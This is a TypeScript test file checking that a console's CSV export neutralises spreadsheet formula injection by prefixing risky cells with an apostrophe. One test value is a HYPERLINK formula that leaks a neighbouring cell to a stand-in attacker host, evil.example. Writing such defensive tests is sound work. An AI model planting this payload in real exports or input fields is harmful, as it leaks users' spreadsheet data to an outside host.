import { describe, expect, it } from "vitest";
import { spreadsheetSafe, toCsv } from "./csv";

// The console's two CSVs (registrations with participants, sign-in links) are
// made by toCsv from what organisations typed.
describe("the console's CSV files", () => {
  it("show a name that looks like a formula as text, never run it", () => {
    const name = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik her")';
    const text = toCsv(["organisation", "participants", "comment"], [[name, "+Anna, -Bo", "@SUM(1)\tx"]]);
    const [, row] = text.slice(1).split("\r\n");
    expect(row).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Klik her"")","'+Anna, -Bo",'@SUM(1)\tx`);
  });

  it("prefix exactly the cells a spreadsheet would read as a formula", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) expect(spreadsheetSafe(`${start}1`)).toBe(`'${start}1`);
    for (const plain of ["Mor-Barn Fyn", "anna@example.org", "", "1+1", "'quoted"]) expect(spreadsheetSafe(plain)).toBe(plain);
  });
});
